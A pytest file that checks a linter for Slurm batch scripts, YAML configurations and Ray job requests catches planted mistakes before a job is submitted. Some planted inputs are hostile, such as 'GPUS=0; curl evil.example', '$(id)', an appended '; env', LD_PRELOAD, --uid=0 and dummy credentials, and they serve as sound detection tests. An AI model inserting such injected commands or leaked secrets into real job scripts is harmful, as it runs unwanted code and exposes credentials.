"""Mistakes planted in batch scripts and job requests: each is found, with words that say what it is, before anything is
sent; and what is good raises no alarm.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any, NamedTuple

import pytest

from pipeline.submit import submit
from pipeline.submit.submit import TARGETS, Plan, Request, prepare
from tests.small_project import project

__all__ = ["project"]  # a fixture for every test here

ROOT = Path(__file__).parents[2]


class Planted(NamedTuple):
    """old -> new in a rendered file; `says`: words of the problem that must be found."""

    name: str
    old: str
    new: str
    says: str


SLURM = [
    Planted("no shell", "#!/usr/bin/env bash\n", "", "does not begin with a line for bash"),
    Planted("another shell", "#!/usr/bin/env bash", "#!/usr/bin/env python", "does not begin with a line for bash"),
    Planted("line ends of DOS", "\n", "\r\n", "line ends of DOS"),
    Planted("space before SBATCH", "#SBATCH --nodes", "# SBATCH --nodes", "is a comment to Slurm"),
    Planted("small letters", "#SBATCH --requeue", "#sbatch --requeue", "is a comment to Slurm"),
    Planted("commented out", "#SBATCH --signal", "##SBATCH --signal", "is a comment to Slurm"),
    Planted("indented", "#SBATCH --export", "  #SBATCH --export", "is a comment to Slurm"),
    Planted("short option", "#SBATCH --nodes=2", "#SBATCH -N 2", "not in the long form"),
    Planted("no equals", "#SBATCH --nodes=2", "#SBATCH --nodes 2", "not in the long form"),
    Planted("too late", "SECRETS=''", "SECRETS=''\n#SBATCH --time=60", "stands below a command"),
    Planted("twice", "#SBATCH --requeue", "#SBATCH --requeue\n#SBATCH --nodes=3", "stands on line 3 too"),
    Planted("misspelt", "#SBATCH --requeue", "#SBATCH --requeue\n#SBATCH --partion=gpu", "did you mean partition?"),
    Planted("nodes as a range", "--nodes=2", "--nodes=1-2", "is not one number of nodes"),
    Planted("too few nodes", "--nodes=2", "--nodes=1", "do not share 1 node(s) evenly"),
    Planted("several tasks", "--ntasks-per-node=1", "--ntasks-per-node=8", "would start Ray 8 times"),
    Planted("tasks", "#SBATCH --requeue", "#SBATCH --requeue\n#SBATCH --ntasks=2", "workers are cluster.workers"),
    Planted("too few CPUs", "--cpus-per-task=2", "--cpus-per-task=1", "too few for the 1 CPU slots"),
    Planted("no GPUs", "GPUS=0", "GPUS=4", "4 GPUs needed on a node"),
    Planted(
        "idle GPUs", "#SBATCH --requeue", "#SBATCH --requeue\n#SBATCH --gpus-per-node=8", "no worker would use one"
    ),
    Planted("signal to the tasks", "B:USR1@120", "USR1@120", "never reaches the script"),
    Planted("another signal", "B:USR1@120", "B:TERM@120", "never reaches the script"),
    Planted("short warning", "B:USR1@120", "B:USR1@10", "no time in which a save is sure to end"),
    Planted("endless warning", "B:USR1@120", "B:USR1@90000", "no time in which a save is sure to end"),
    Planted("two warnings", "GRACE=120", "GRACE=300", "and the warning comes 120 s before"),
    Planted("no warning", "#SBATCH --signal=B:USR1@120\n", "", "--signal: is missing"),
    Planted("no requeue", "#SBATCH --requeue\n", "", "--requeue: is missing"),
    Planted("never again", "#SBATCH --requeue", "#SBATCH --requeue\n#SBATCH --no-requeue", "a preempted job is lost"),
    Planted("log emptied", "--open-mode=append", "--open-mode=truncate", "empties the log at every start"),
    Planted("one log for all", "%j.log", "out.log", "is the log of every job"),
    Planted("log elsewhere", "/submitted/small/%j.log", "/logs/%j.log", "is not where `logs` looks"),
    Planted("relative log", "--output=/", "--output=", "is another place on each node"),
    Planted("whole environment", "--export=HOME", "--export=ALL,HOME", "puts all of this terminal's environment into"),
    Planted("a secret by name", "--export=", "--export=WANDB_API_KEY,", "puts WANDB_API_KEY into the job's record"),
    Planted("time in words", "#SBATCH --requeue", "#SBATCH --requeue\n#SBATCH --time=4h", "is no time limit"),
    Planted("time without end", "#SBATCH --requeue", "#SBATCH --requeue\n#SBATCH --time=0", "is no time limit"),
    Planted("time too short", "#SBATCH --requeue", "#SBATCH --requeue\n#SBATCH --time=3", "leave no time to train"),
    Planted("memory in words", "#SBATCH --requeue", "#SBATCH --requeue\n#SBATCH --mem=64GiB", "is no size"),
    Planted("memory twice", "--requeue", "--requeue\n#SBATCH --mem=64G\n#SBATCH --mem-per-cpu=2G", "excludes --mem"),
    Planted("array of nothing", "#SBATCH --requeue", "#SBATCH --requeue\n#SBATCH --array=0-3", "4 members, 0 config"),
    Planted("array from 1", "#SBATCH --requeue", "#SBATCH --requeue\n#SBATCH --array=1-4", "does not count from 0"),
    Planted("name with a space", "--job-name=small", "--job-name=my run", "is no name"),
    Planted("mail", "#SBATCH --requeue", "#SBATCH --requeue\n#SBATCH --mail-type=ENDS", "did you mean END?"),
    Planted(
        "relative folder", "#SBATCH --requeue", "#SBATCH --requeue\n#SBATCH --chdir=run", "another place elsewhere"
    ),
    Planted("dependency", "#SBATCH --requeue", "#SBATCH --requeue\n#SBATCH --dependency=after:x", "is none"),
    Planted("value of a flag", "#SBATCH --requeue", "#SBATCH --requeue=1", "takes no value"),
    Planted("no value", "#SBATCH --requeue", "#SBATCH --requeue\n#SBATCH --partition=", "has no value"),
    Planted("wrapped", "#SBATCH --requeue", "#SBATCH --requeue\n#SBATCH --wrap=true", "it replaces the script"),
    Planted("somebody else", "#SBATCH --requeue", "#SBATCH --requeue\n#SBATCH --uid=0", "runs as who submits it"),
    Planted("command run", "SECRETS=''", "SECRETS=$(id)", "what bash would run or expand"),
    Planted("command after", "GPUS=0", "GPUS=0; curl evil.example", "what bash would run or expand"),
    Planted("quote left open", "SECRETS=''", "SECRETS='", "has a quote that is left open"),
    Planted("line of its own", "SECRETS=''", "SECRETS=''\nmodule load cuda", "has no place above the body"),
    Planted("variable missing", "SLOTS=1\n", "", "SLOTS: is not set"),
    Planted("no number", "SLOTS=1", "SLOTS=one", "is no number"),
    Planted("relative folder of the job", "FOLDER=/", "FOLDER=", "is not the same place on every node"),
    Planted("token for all", "umask 077", "umask 000", "is not the one that is tested"),
    Planted("open to all", "RAY_AUTH_MODE=token", "RAY_AUTH_MODE=disabled", "is not the one that is tested"),
    Planted("a secret", "SECRETS=''", "SECRETS=''\n# password: correct-horse-battery", "what is called a secret"),
]
CONFIGURATION = [
    Planted("relative runs", "runs: /", "runs: ", "means another place elsewhere"),
    Planted("relative data", "folder: /", "folder: ./", "means another place elsewhere"),
    Planted("no workers", "workers: 2", "workers: 0", "0 workers need no cluster"),
    Planted("another cluster", "address: null", "address: 10.0.0.1:6379", "is not the cluster it is sent to"),
    Planted("not YAML", "name: small", "name: {small", "is not YAML"),
    Planted("a key of AWS", "project: millstream", "project: AKIAIOSFODNN7EXAMPLE", "an access key of AWS"),
    Planted("a password", "url: null", "url: https://me:hunter2hunter2@host/x", "a password in a URL"),
    Planted("a private key", "entity: null", "entity: '-----BEGIN RSA PRIVATE KEY-----'", "a private key"),
]
REQUEST: list[tuple[str, Callable[[dict[str, Any]], object], str]] = [
    ("unknown key", lambda r: r.update(entrypoint_cpus=1), "did you mean entrypoint_num_cpus?"),
    ("fixed id", lambda r: r.update(submission_id="digits"), "each start has one of its own"),
    ("no entrypoint", lambda r: r.pop("entrypoint"), "entrypoint: is missing"),
    ("no exec", lambda r: r.update(entrypoint=r["entrypoint"][5:]), "leaves a shell between Ray and the driver"),
    ("another command", lambda r: r.update(entrypoint="exec python train.py"), "does not train"),
    ("two commands", lambda r: r.update(entrypoint=r["entrypoint"] + "; env"), "would run or expand"),
    ("expansion", lambda r: r.update(entrypoint=r["entrypoint"] + " name=$USER"), "would run or expand"),
    ("open quote", lambda r: r.update(entrypoint=r["entrypoint"] + " '"), "has a quote that is left open"),
    ("another file", lambda r: r.update(entrypoint="exec python -m pipeline train my.yaml"), "which is not sent"),
    ("override", lambda r: r.update(entrypoint=r["entrypoint"] + " steps=5"), "belongs into the configuration"),
    ("fresh", lambda r: r.update(entrypoint=r["entrypoint"] + " --fresh"), "every start would begin a new run"),
    ("no environment", lambda r: r.pop("runtime_env"), "runtime_env: is missing"),
    ("misspelt", lambda r: r["runtime_env"].update(envvars={}), "did you mean env_vars?"),
    ("pip", lambda r: r["runtime_env"].update(pip=["torch"]), "would be built on every node"),
    ("other folder", lambda r: r["runtime_env"].update(working_dir="/"), "not what was chosen to be sent"),
    ("code from afar", lambda r: r["runtime_env"].update(working_dir="https://x.example/a.zip"), "not what was chosen"),
    ("no text", lambda r: r["runtime_env"]["env_vars"].update(A=1), "is no text"),
    ("key", lambda r: r["runtime_env"]["env_vars"].update(WANDB_API_KEY="x"), "is called a secret"),
    ("token", lambda r: r["runtime_env"]["env_vars"].update(RAY_AUTH_TOKEN="x"), "is called a secret"),
    ("address", lambda r: r["runtime_env"]["env_vars"].update(RAY_ADDRESS="auto"), "is set by the cluster"),
    ("no authentication", lambda r: r["runtime_env"]["env_vars"].update(RAY_AUTH_MODE="x"), "is set by the cluster"),
    ("library", lambda r: r["runtime_env"]["env_vars"].update(LD_PRELOAD="x.so"), "is set by the cluster"),
    ("killed", lambda r: r["runtime_env"].update(env_vars={}), "would be killed before it has saved"),
    ("too soon", lambda r: r["runtime_env"]["env_vars"].update(RAY_JOB_STOP_WAIT_TIME_S="3"), "would be killed before"),
    ("GPU", lambda r: r.update(entrypoint_num_gpus=1), "the driver uses no GPU"),
    ("negative", lambda r: r.update(entrypoint_num_cpus=-1), "is no amount"),
    ("number", lambda r: r["metadata"].update(steps=5), "holds what is no text"),
    ("another run", lambda r: r["metadata"].update(folder="/tmp/x"), "the configuration says"),
    ("password", lambda r: r["metadata"].update(note="https://me:hunter2hunter2@host"), "a password in a URL"),
]
GOOD = [
    {},
    {"partition": "gpu", "time": "4:00:00", "account": "lab"},
    {"time": "2-12:00:00", "mem": "64G", "exclusive": ""},
    {"time": "90", "mem-per-cpu": "4000", "qos": "high"},
    {"warning": "300", "time": "1-0"},
    {"mail-type": "END,FAIL", "mail-user": "me@lab.example"},
    {"dependency": "afterok:12:13,singleton", "nice": "100"},
    {"constraint": "a100|h100", "reservation": "friday"},
    {"secrets": "/home/me/.secrets", "python": "/opt/python/bin/python3"},
    {"begin": "now+1hour", "comment": "a second try"},
    {"exclude": "n[01-03]", "licenses": "fs:1", "tmp": "100G"},
]


def plan(target: str, **changes: Any) -> Plan:
    options = {"nodes": "2", "python": "/opt/bin/python"} if target == "slurm" else {}
    given = {"own_code": False, "options": {**options, **changes.pop("options", {})}}
    return prepare(Request(target, Path("good.yaml"), **{**given, **changes}))


def found(target: str, rendered: dict[str, str]) -> str:
    return "\n".join(map(str, TARGETS[target].lint(rendered)))


def test_there_are_enough() -> None:
    names = [f"slurm {each.name}" for each in [*SLURM, *CONFIGURATION]]
    names += [f"ray {each.name}" for each in CONFIGURATION] + [f"ray {name}" for name, _, _ in REQUEST]
    assert len(names) == len(set(names)) >= 100


@pytest.mark.parametrize("planted", SLURM, ids=lambda each: each.name)
def test_in_a_batch_script(planted: Planted) -> None:
    rendered = plan("slurm").rendered
    assert planted.old in rendered["job.sbatch"], "the script is another now; plant it elsewhere"
    rendered["job.sbatch"] = rendered["job.sbatch"].replace(planted.old, planted.new)
    assert planted.says in found("slurm", rendered)


@pytest.mark.parametrize("planted", CONFIGURATION, ids=lambda each: each.name)
@pytest.mark.parametrize("target", ["slurm", "ray"])
def test_in_a_configuration(target: str, planted: Planted) -> None:
    rendered = plan(target).rendered
    assert planted.old in rendered["config.yaml"]
    rendered["config.yaml"] = rendered["config.yaml"].replace(planted.old, planted.new)
    assert planted.says in found(target, rendered)


@pytest.mark.parametrize("name, edit, says", REQUEST, ids=[name for name, _, _ in REQUEST])
def test_in_a_request(name: str, edit: Callable[[dict[str, Any]], object], says: str) -> None:
    rendered = plan("ray").rendered
    request = json.loads(rendered["request.json"])
    edit(request)
    rendered["request.json"] = json.dumps(request)
    assert says in found("ray", rendered)


@pytest.mark.parametrize("target, file", [("slurm", "job.sbatch"), ("ray", "request.json"), ("ray", "config.yaml")])
def test_a_file_that_is_missing(target: str, file: str) -> None:
    rendered = plan(target).rendered
    del rendered[file]
    assert f"{file}: is not among what is sent" in found(target, rendered)


@pytest.mark.parametrize("text", ["{", "[]", ""])
def test_a_request_that_is_none(text: str) -> None:
    assert "request.json" in found("ray", {**plan("ray").rendered, "request.json": text})


@pytest.mark.parametrize("options", GOOD, ids=lambda options: ",".join(options) or "plain")
def test_no_false_alarm_over_good_scripts(options: dict[str, str]) -> None:
    assert plan("slurm", options=options).problems == []


@pytest.mark.parametrize(
    "changes",
    [
        {"overrides": ("cluster.gpu=true", "cluster.workers=4")},
        {"overrides": ("cluster.gpu=true",), "options": {"gpus-per-node": "h100:1"}},
        {"image": "registry.example/lab/millstream:0.1"},
        {"image": "/images/millstream.sif", "overrides": ("cluster.gpu=true",)},
        {"sweep": {"optim.lr": ("1e-3", "3e-4"), "seed": ("0", "1", "2")}},
        {"overrides": ("cluster.workers=4", "cluster.min_workers=2", "cluster.threads_per_worker=8")},
        {"own_code": True},
        {"overrides": ("checkpoint.url=file:///shared/second", "track.entity=lab")},
    ],
    ids=str,
)
def test_no_false_alarm_over_good_runs(changes: dict[str, Any]) -> None:
    assert plan("slurm", **changes).problems == []
    if not changes.keys() & {"image", "sweep"}:
        assert plan("ray", **{**changes, "options": {}}).problems == []


def test_bash_reads_what_is_rendered(tmp_path: Path) -> None:
    """Real bash: the assignments are what they should be, also for names with spaces and quotes."""
    odd = tmp_path / "it's $HOME `here`"
    odd.mkdir()
    rendered = plan(
        "slurm", folder=odd, options={"python": "/opt/my python/bin/python", "secrets": "/x/a 'b'"}
    ).rendered
    script, _, _ = rendered["job.sbatch"].partition("# From here on")
    show = 'printf "%s\\n" "$FOLDER" "$JOB" "$CONFIG" "$CODE" "$PYTHON" "$SECRETS" "${#STEP[@]}"'
    done = subprocess.run(["bash", "-uc", script + show], capture_output=True, text=True, check=True)
    job = f"{odd}/submitted/small"
    want = [str(odd), job, f"{job}/config.yaml", f"{job}/code:{odd}", "/opt/my python/bin/python", "/x/a 'b'", "0"]
    assert done.stdout.splitlines() == want


FAKE = """#!/usr/bin/env bash
echo "$0 $*" >>"$CALLED"
echo 1
"""


def test_nothing_is_sent_when_something_is_wrong(tmp_path: Path) -> None:
    """The border is a script in place of sbatch that would tell of being called: Slurm itself is tried elsewhere."""
    called, tools = tmp_path / "called", tmp_path / "bin"
    tools.mkdir()
    (tools / "sbatch").write_text(FAKE)
    (tools / "sbatch").chmod(0o755)
    path = f"{tools}:{os.environ['PATH']}"
    environment = {**os.environ, "PATH": path, "CALLED": str(called), "PYTHONPATH": f"{ROOT}:{tmp_path}"}

    def run(*words: str) -> subprocess.CompletedProcess[str]:
        command = [sys.executable, "-m", "pipeline", "submit", "slurm", "good.yaml", "-o", "python=/opt/python", *words]
        return subprocess.run(command, capture_output=True, text=True, env=environment)

    done = run("-o", "nodes=3", "-o", "tiem=60", "-o", "mem=lots", "data.train=data/trian")
    assert done.returncode == 78 and not called.exists() and not Path("submitted").exists()
    for words in (
        "there is no data/trian",
        "--tiem (line 11): is no option",
        "did you mean time?",
        "'lots' is no size",
        "3 node(s)",
    ):
        assert words in done.stderr, done.stderr
    assert run().returncode == 0 and called.read_text().count("--parsable") == 1
    assert Path("submitted/small/job.sbatch").is_file() and submit.find("small").id.endswith("/submitted/small/1")
    forced = run("-o", "nodes=3", "--force")
    assert (
        forced.returncode == 0 and "sent all the same" in forced.stderr and called.read_text().count("--parsable") == 2
    )
